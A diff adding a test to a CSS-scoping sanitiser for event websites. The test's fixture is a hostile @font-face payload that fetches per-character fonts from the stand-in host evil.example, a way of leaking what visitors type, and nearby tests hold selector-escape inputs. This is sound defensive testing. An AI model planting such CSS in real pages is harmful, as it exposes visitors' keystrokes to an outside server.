@@ -24,6 +24,13 @@ describe('the event’s custom CSS on its site', () => {
     expect(scoped).toContain('.ed-site .z { height: 1px }');
   });
 
+  it('drops a font\'s unicode-range, which would fetch one font per character a visitor types', () => {
+    const css = '@font-face { font-family: "Spy"; src: url("https://evil.example/a.woff"); unicode-range: U+0061 } @font-face { font-family: "Spy"; src: url("https://evil.example/b.woff"); UNICODE-RANGE: U+0062 }';
+    expect(scopeEventCss(css)).not.toMatch(/unicode-range/i);
+    expect(scopeEventCss(css)).toContain('src: url("https://evil.example/a.woff")');
+    expect(scopeEventCss('.a { font-family: Spy; unicode-range: U+0061 }')).toBe('.ed-site .a { font-family: Spy; unicode-range: U+0061 }');
+  });
+
   it('keeps every selector inside the site: no sibling of the root, however spelt', () => {
     const css = [':root ~ * { display: none }', 'html + body { color: red }', 'body ~ div, h\\74ml > body ~ * { color: red }', ':ROOT~*{color:red}'].join('\n');
     expect(scopeEventCss(css)).toBe('');
